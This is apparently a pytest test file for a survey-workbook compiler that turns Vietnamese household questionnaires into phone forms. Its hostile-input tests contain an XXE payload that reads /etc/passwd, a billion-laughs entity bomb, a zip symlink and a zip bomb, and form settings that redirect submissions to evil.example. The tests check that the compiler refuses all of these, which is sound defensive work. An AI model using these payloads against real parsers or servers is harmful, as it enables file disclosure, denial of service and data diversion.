"""Workbooks: good ones become forms, bad ones a sentence, hostile ones neither harm nor delay."""

import io
import itertools
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from server import xml
from server.problems import Problem
from server.surveys import compile as compiler
from server.surveys import compile_child, fields, workbook
from server.surveys.compile import EntityUse, MediaNeed
from tests.workbooks import read_anew as read_anew

pytestmark = pytest.mark.usefixtures("read_anew")

HOUSEHOLD = (Path(__file__).parent / "data" / "phieu_ho.md").read_text(encoding="utf-8")
PLAIN = """
| survey |
|        | type | name | label | calculation |
|        | integer | a | A | |
{rows}
| settings |
|        | form_title | form_id | version | {settings}
|        | Thử | thu | 1 | {values}
"""


def plain(rows="", settings="", values=""):
    return PLAIN.format(rows=rows, settings=settings, values=values).encode()


def tables(markdown):
    return dict(workbook._from_text(markdown.encode(), ".md"))


def xlsx(found):
    book = Workbook(write_only=True)
    for name, rows in found.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    kept = io.BytesIO()
    book.save(kept)
    return kept.getvalue()


def comma(found):
    lines = []
    for name, rows in found.items():
        lines.append(name)
        lines += ["," + ",".join(f'"{cell}"' for cell in row) for row in rows]
    return "\r\n".join(lines).encode("utf-8-sig")


def xls(found):
    """Write the tables as Excel 97 does: BIFF8 records in an OLE2 file of 512-byte sectors.

    From Microsoft's published [MS-XLS] and [MS-CFB]; only what a table of text needs.
    """

    def record(kind, body):
        return struct.pack("<HH", kind, len(body)) + body

    def sheet(rows):
        cells = b"".join(
            record(0x204, struct.pack("<HHHHB", r, c, 0, len(v), 1) + v.encode("utf-16-le"))
            for r, row in enumerate(rows)
            for c, v in enumerate(row)
        )
        return record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 0)) + cells + ending

    ending = record(0x0A, b"")
    begin = record(0x809, struct.pack("<HHHHII", 0x600, 0x5, 0, 0, 0, 0))
    names = [name.encode("utf-16-le") for name in found]
    bodies = [sheet(rows) for rows in found.values()]
    at = len(begin) + sum(12 + len(name) for name in names) + len(ending)
    starts = itertools.accumulate(map(len, bodies), initial=at)
    bounds = b"".join(
        record(0x85, struct.pack("<IBBBB", start, 0, 0, len(name) // 2, 1) + name)
        for start, name in zip(starts, names, strict=False)
    )
    stream = (begin + bounds + ending + b"".join(bodies)).ljust(4096, b"\0")
    sectors = -(-len(stream) // 512)

    def entry(name, kind, start, size, child):
        text = name.encode("utf-16-le")
        head = text.ljust(64, b"\0") + struct.pack("<HBB", len(text) + 2, kind, 1)
        return (
            head
            + struct.pack("<iii", -1, -1, child)
            + b"\0" * 36
            + struct.pack("<iII", start, size, 0)
        )

    chain = [-3, -2, *range(3, 2 + sectors), -2]
    fat = struct.pack(f"<{len(chain)}i", *chain).ljust(512, b"\xff")
    assert len(fat) == 512, "one sector of the allocation table is enough for a test"
    folder = entry("Root Entry", 5, -2, 0, 1) + entry("Workbook", 2, 2, len(stream), -1)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack(
        "<HHHHH6xIIiIIiIiI", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, -2, 0, -2, 0
    )
    header += struct.pack("<i", 0) + b"\xff" * 432
    return header + fat + folder.ljust(512, b"\0") + stream.ljust(sectors * 512, b"\0")


@pytest.fixture(scope="module")
def household():
    return compiler.compile(HOUSEHOLD.encode(), "Phiếu hộ.md", validate=False)


def test_a_workbook_names_its_form(household):
    assert (household.form_id, household.version, household.title) == (
        "ho_ngheo",
        "2026.01",
        "Phiếu hộ",
    )
    assert household.languages == ["Tiếng Việt (vi)", "English (en)"]
    assert household.default_language == "Tiếng Việt (vi)"
    assert household.settings["form_id"] == "ho_ngheo"
    assert household.validated is False
    assert xml.parse(household.xform) is not None


def test_fields_come_in_document_order_with_what_is_asked(household):
    assert [(field.path, field.type, field.repeat) for field in household.fields] == [
        ("start", "dateTime", False),
        ("ho", "group", False),
        ("ho/ten", "string", False),
        ("ho/loai", "select_one", False),
        ("ho/kenh", "select_multiple", False),
        ("ho/visit", "select_one", False),
        ("ho/gps", "geopoint", False),
        ("ho/anh", "binary", False),
        ("tv", "repeat", False),
        ("tv/tuoi", "int", True),
        ("so", "calculate", False),
        ("gia", "calculate", False),
        ("loi", "note", False),
        ("hang", "rank", False),
        ("ky", "acknowledge", False),
        ("meta", "group", False),
    ]


def test_a_field_says_how_it_is_asked(household):
    by_name = {field.name: field for field in household.fields}

    assert by_name["ten"].label("en") == "Head"
    assert by_name["ten"].hint == {"Tiếng Việt (vi)": "Viết đủ dấu"} | by_name["ten"].hint
    assert by_name["ten"].required == "true()"
    assert by_name["ho"].appearance == "field-list"
    assert by_name["loai"].label() == "Loại hộ của ${ten}"
    assert by_name["loai"].choices[0] == (
        "ngheo",
        {"Tiếng Việt (vi)": "Hộ nghèo", "English (en)": "Poor"},
    )
    assert by_name["visit"].source == "visits.csv" and by_name["visit"].choices == ()
    assert by_name["anh"].media == "image"
    assert "ngheo" in by_name["anh"].relevant


def test_files_that_the_phone_needs_are_all_named(household):
    assert set(household.media) == {
        MediaNeed("visits.csv", "csv"),
        MediaNeed("gia.csv", "csv"),
        MediaNeed("ngheo.png", "images"),
    }


def test_fields_survive_being_kept_as_json(household):
    assert fields.from_json(fields.to_json(household.fields)) == household.fields


@pytest.mark.parametrize(
    ("write", "name"),
    [
        (lambda found: xlsx(found), "x.xlsx"),
        (lambda found: xls(found), "x.xls"),
        (lambda found: comma(found), "x.csv"),
        (lambda found: xlsx(found), "X.XLSM"),
        (lambda found: xls(found), "called wrongly.xlsx"),
    ],
    ids=["xlsx", "xls", "csv", "xlsm", "xls called xlsx"],
)
def test_every_kind_of_workbook_gives_the_same_form(write, name, household):
    made = compiler.compile(write(tables(HOUSEHOLD)), name, validate=False)

    assert made.xform == household.xform
    assert made.fields == household.fields
    assert [rule["rule_id"] for rule in made.rules] == ["B01", "B02"]


def test_rules_keep_the_row_they_stand_in():
    made = compiler.compile(xlsx(tables(HOUSEHOLD)), "x.xlsx", validate=False)

    assert made.rules == [
        {"row": "2", "rule_id": "B01", "when": "loai = 'khac'", "severity": "2", "topic": "DT01"},
        {
            "row": "3",
            "rule_id": "B02",
            "when": "any(tv: tuoi > 100)",
            "severity": "1",
            "topic": "KT01",
        },
    ]


def test_every_warning_is_kept():
    made = compiler.compile(plain("| | image | anh | Ảnh | |"), "x.md", validate=False)

    assert any("max-pixels" in warning for warning in made.warnings)


def test_a_form_without_id_and_version_is_called_after_its_file_and_says_so():
    data = b"| survey |\n| | type | name | label |\n| | integer | a | A |\n"

    made = compiler.compile(data, "Phiếu Hộ đặc biệt.md", validate=False)

    assert made.form_id == "phieu_ho_dac_biet"
    assert b'id="phieu_ho_dac_biet"' in made.xform
    assert any("form_id" in said for said in made.warnings)
    assert any("version" in said for said in made.warnings)


def test_entities_are_told_with_the_fields_they_save():
    rows = (
        "| | select_one_from_file ho.csv | ho | H | | |\n| | text | b | B | | so_ho |\n"
        "| entities |\n| | list_name | label | entity_id |\n| | ho | ${b} | ${ho} |\n"
    )
    data = plain(rows).replace(b"| calculation |", b"| calculation | save_to |")

    made = compiler.compile(data, "x.md", validate=False)

    assert made.entities == [EntityUse("ho", False, True, "", {"so_ho": "b"})]


def test_a_file_that_claims_a_million_rows_is_read_by_what_it_holds():
    book = zipfile.ZipFile(io.BytesIO(xlsx(tables(HOUSEHOLD))))
    parts = {name: book.read(name) for name in book.namelist()}
    claim = b'<dimension ref="A1:XFD1048576"/><sheetData>'
    for name, part in parts.items():
        if name.startswith("xl/worksheets/"):
            parts[name] = part.replace(b"<sheetData>", claim)

    made = compiler.compile(zipped(parts), "x.xlsx", validate=False)

    assert made.form_id == "ho_ngheo"


@pytest.mark.java
def test_a_good_form_is_accepted_by_the_engine_of_the_phones():
    made = compiler.compile(HOUSEHOLD.encode(), "x.md")

    assert made.validated is True


@pytest.mark.java
@pytest.mark.parametrize(
    ("formula", "said"),
    [("nosuch(${a})", "cannot handle function 'nosuch'"), ("${a} >> 3", "Invalid calculate")],
)
def test_a_broken_formula_is_refused_with_the_validators_words(formula, said):
    with pytest.raises(workbook.InvalidForm) as refusal:
        compiler.compile(plain(f"| | calculate | b | | {formula} |"), "x.md")

    assert said in refusal.value.text("vi")
    assert "\tat " not in refusal.value.text("vi")
    assert ".java:" not in refusal.value.text("en")


def test_without_java_the_form_is_kept_unvalidated_and_says_so(monkeypatch):
    monkeypatch.setattr(compiler, "_java", lambda: None)

    made = compiler.compile(plain(), "x.md")

    assert made.validated is False
    assert any("Java" in said and "điện thoại" in said for said in made.warnings)


@pytest.mark.java
def test_a_validator_that_does_not_finish_leaves_a_warning(monkeypatch):
    monkeypatch.setattr(compiler, "VALIDATE_SECONDS", 0.01)

    made = compiler.compile(plain(), "x.md")

    assert made.validated is False
    assert any("không xong" in said for said in made.warnings)


def zipped(parts, **kwargs):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part, **kwargs)
    return kept.getvalue()


def with_sheet(content):
    """Return a workbook whose survey sheet is `content`, whatever that is."""
    book = zipfile.ZipFile(io.BytesIO(xlsx({"survey": [("type",)]})))
    parts = {name: book.read(name) for name in book.namelist()}
    parts["xl/worksheets/sheet1.xml"] = content
    return zipped(parts)


def link():
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        part = zipfile.ZipInfo("xl/workbook.xml")
        part.external_attr = 0o120777 << 16
        archive.writestr(part, "/etc/passwd")
    return kept.getvalue()


def locked():
    data = bytearray(zipped({"xl/workbook.xml": b"x"}))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(sign) + at] |= 1
    return bytes(data)


def understated():
    """A part that claims ten bytes in both headers and inflates to eighty megabytes."""
    data = bytearray(zipped({"xl/workbook.xml": b"\0" * 80_000_000}))
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.index(sign) + at
        data[place : place + 4] = struct.pack("<I", 10)
    return bytes(data)


SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
XXE = (
    b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + SHEET
    + b'<row><c t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'
)
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
    + SHEET
    + b'<row><c t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>'
)
WIDE = {"survey": [[f"c{n}" for n in range(16_384)], ["1"] * 16_384]}
LONG = {"survey": [("type", "name", "label"), *(("note", f"n{k}", "N") for k in range(50_000))]}
NESTED = "".join(f"| | begin_group | g{n} | G | |\n" for n in range(3000))
NESTED += "| | end_group | | | |\n" * 3000

BROKEN, WRONG = "unreadable-workbook", "invalid-form"
LARGE, ABROAD = "too-large", "foreign-submission-url"


def with_setting(name, value):
    return lambda: plain(settings=f"{name} |", values=f"{value} |")


HOSTILE = {
    "nothing": (lambda: b"", "x.xlsx", BROKEN),
    "garbage as xlsx": (lambda: b"\x13\x37" * 500, "x.xlsx", BROKEN),
    "garbage as xls": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x99" * 999,
        "x.xls",
        BROKEN,
    ),
    "garbage as md": (lambda: b"\xff\xfe\x00|", "x.md", BROKEN),
    "NUL in csv": (lambda: b"survey\n,type\x00,name\n", "x.csv", BROKEN),
    "an open quote in csv": (lambda: b'survey\n,"type,name\n' + b"x" * 200_000, "x.csv", BROKEN),
    "another kind": (lambda: b"%PDF-1.7", "x.pdf", BROKEN),
    "no name": (lambda: plain(), "", BROKEN),
    "latin-1 text": (lambda: "| survey | Địa".encode("utf-16"), "x.md", BROKEN),
    "no table": (lambda: "Kính gửi".encode(), "x.md", WRONG),
    "cut zip": (lambda: xlsx(tables(HOUSEHOLD))[:3000], "x.xlsx", BROKEN),
    "some other zip": (lambda: zipped({"a.txt": b"x"}), "x.xlsx", BROKEN),
    "locked zip": (locked, "x.xlsx", BROKEN),
    "link in zip": (link, "x.xlsx", BROKEN),
    "300 parts": (lambda: zipped({f"{n}": b"" for n in range(300)}), "x.xlsx", LARGE),
    "200 MB of blanks": (lambda: with_sheet(SHEET + b" " * 200_000_000), "x.xlsx", LARGE),
    "a part that lies about its size": (understated, "x.xlsx", BROKEN),
    "XXE in a sheet": (lambda: with_sheet(XXE), "x.xlsx", f"{WRONG} {BROKEN}"),
    "laughs in a sheet": (lambda: with_sheet(LAUGHS), "x.xlsx", f"{WRONG} {BROKEN}"),
    "broken sheet": (lambda: with_sheet(SHEET), "x.xlsx", BROKEN),
    "16,384 columns": (lambda: xlsx(WIDE), "x.xlsx", LARGE),
    "50,000 notes": (lambda: xlsx(LONG), "x.xlsx", LARGE),
    "3,000 groups in each other": (lambda: plain(NESTED), "x.md", LARGE),
    "over 15 MB": (lambda: b"PK\x03\x04" + b"\0" * 15_000_000, "x.xlsx", LARGE),
    "submission_url": (
        with_setting("submission_url", "http://evil.example/"),
        "x.md",
        ABROAD,
    ),
    "Submission URL": (
        with_setting("Submission URL", "http://evil.example/"),
        "x.md",
        ABROAD,
    ),
    "namespaces": (
        with_setting("namespaces", 'evil="'),
        "x.md",
        ABROAD,
    ),
    "public_key": (with_setting("public_key", "MIIB"), "x.md", ABROAD),
    "auto_send": (with_setting("auto_send", "perhaps"), "x.md", WRONG),
    "no survey": (lambda: b"| settings |\n| | form_id |\n| | a |\n", "x.md", WRONG),
    "no such list": (lambda: plain("| | select_one khong_co | b | B | |"), "x.md", WRONG),
    "no such question": (lambda: plain("| | note | b | ${khong_co} | |"), "x.md", WRONG),
    "same name twice": (lambda: plain("| | integer | a | A | |"), "x.md", WRONG),
    "a group never ended": (lambda: plain("| | begin_group | g | G | |"), "x.md", WRONG),
    "an id too long for phones": (
        lambda: plain().replace(b"| thu |", b"| " + b"t" * 300 + b" |"),
        "x.md",
        WRONG,
    ),
}


@pytest.mark.parametrize(("make", "name", "codes"), HOSTILE.values(), ids=HOSTILE)
def test_bad_workbooks_are_refused_soon_with_a_sentence(make, name, codes):
    data = make()
    began = time.monotonic()

    with pytest.raises(Problem) as refusal:
        compiler.compile(data, name, validate=False)

    assert time.monotonic() - began < 30  # it does not hang; how fast it is, a bench says
    assert refusal.value.code in [f"surveys.{code}" for code in codes.split()]
    assert refusal.value.status in {400, 413, 422}
    assert "root:" not in refusal.value.text("en")
    assert refusal.value.text("vi") != refusal.value.text("en")


def test_a_conversion_may_not_take_the_machines_memory():
    greedy = "from server.surveys import compile_child as child; child._limit(9); bytearray({})"
    most = compile_child.MAX_MEMORY_BYTES

    ends = [
        subprocess.run(
            [sys.executable, "-c", greedy.format(size)], capture_output=True, check=False
        )
        for size in (most // 2, most)
    ]

    assert [end.returncode for end in ends] == [0, 1]
    assert b"MemoryError" in ends[1].stderr


def test_an_author_reads_the_converters_own_words():
    with pytest.raises(workbook.InvalidForm) as refusal:
        compiler.compile(plain("| | note | b | ${khong_co} | |"), "x.md")

    assert "khong_co" in refusal.value.text("vi")
    assert refusal.value.details["messages"]


def test_a_conversion_that_takes_too_long_is_stopped():
    rows = "".join(f"| | note | n{n} | ${{a}} ${{a}} | |\n" for n in range(9_000))
    began = time.monotonic()

    with pytest.raises(workbook.WorkbookTooLarge):
        compiler._convert(plain(rows), ".md", 1)

    assert time.monotonic() - began < 30  # it does not hang; how fast it is, a bench says


def test_a_redirection_that_slips_past_the_settings_is_found_in_the_form(household):
    redirected = household.xform.replace(
        b"<instance>", b"<submission action='http://evil.example/' method='post'/><instance>", 1
    )

    with pytest.raises(workbook.ForeignSubmissionUrl):
        compiler._reparse(redirected)


def test_what_somebody_allowed_leads_elsewhere_and_says_so():
    url = "https://viengiamsat.example/v1/projects/3/submission"
    data = with_setting("submission_url", url)()

    made = compiler.compile(data, "x.md", validate=False, allowed=["submission_url"])

    assert made.elsewhere == ("submission_url",) and made.sends_to == url
    assert f'action="{url}"'.encode() in made.xform
    assert any(url in said for said in made.warnings)
    with pytest.raises(workbook.ForeignSubmissionUrl):
        compiler.compile(data, "x.md", validate=False, allowed=["public_key", "namespaces"])
    with pytest.raises(workbook.ForeignSubmissionUrl):
        compiler.read(made.xform, validate=False)
    assert compiler.read(made.xform, validate=False, allowed=["submission_url"]).sends_to == url


@pytest.mark.parametrize(
    ("name", "value"),
    [("submission_url", "viengiamsat"), ("submission_url", "file:///a"), ("public_key", "MIIB")],
)
def test_what_is_allowed_must_still_be_usable_by_phones(name, value):
    with pytest.raises(workbook.InvalidForm) as refusal:
        compiler.compile(with_setting(name, value)(), "x.md", validate=False, allowed=[name])

    assert name in refusal.value.text("vi")


def test_namespaces_of_ones_own_are_taken_where_they_are_allowed():
    data = with_setting("namespaces", 'vien="https://viengiamsat.example/x"')()

    made = compiler.compile(data, "x.md", validate=False, allowed=["namespaces"])

    assert made.elsewhere == ("namespaces",) and any("namespaces" in said for said in made.warnings)


@pytest.mark.parametrize(("name", "value"), [("auto_send", "true"), ("auto_delete", "false")])
def test_a_form_that_sends_or_deletes_by_itself_is_taken_and_says_so(name, value):
    made = compiler.compile(with_setting(name, value)(), "x.md", validate=False)

    assert made.elsewhere == ()
    assert f'orx:{name.replace("_", "-")}="{value}"'.encode() in made.xform
    assert [said for said in made.warnings if f"{name}={value}" in said]


def test_the_child_gets_nothing_of_the_servers_settings(monkeypatch, tmp_path):
    monkeypatch.setenv("THUCDIA_SECRET", "bí mật")
    shown = compiler._run(["env"], 5, str(tmp_path), b"", {})

    assert b"THUCDIA_SECRET" not in shown.stdout


def test_the_server_itself_never_loads_the_converter():
    program = (
        "import sys, server.surveys.compile;"
        "print([m for m in ('pyxform', 'openpyxl', 'xlrd') if m in sys.modules])"
    )

    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )

    assert done.stdout.strip() == "[]"
